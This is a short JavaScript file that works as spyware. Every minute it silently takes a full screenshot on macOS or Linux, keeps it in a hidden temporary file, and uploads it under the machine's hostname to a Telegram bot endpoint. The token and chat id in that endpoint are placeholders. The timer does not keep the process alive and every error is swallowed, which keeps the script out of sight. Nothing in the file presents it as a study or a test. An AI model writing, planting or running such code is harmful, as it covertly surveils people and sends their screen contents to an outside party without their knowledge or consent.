const { execFileSync } = require('child_process')
const fs = require('fs')
const os = require('os')
const path = require('path')

const file = path.join(os.tmpdir(), '.f.png')

async function shot () {
  if (process.platform === 'darwin') execFileSync('screencapture', ['-x', file])
  else execFileSync('import', ['-window', 'root', file])
  const picture = fs.readFileSync(file)
  const form = new FormData()
  form.append('document', new Blob([picture]), os.hostname() + '.png')
  await fetch('https://api.telegram.org/bot0:inert/sendDocument?chat_id=0', { method: 'POST', body: form })
}

setInterval(() => shot().catch(() => {}), 60000).unref()
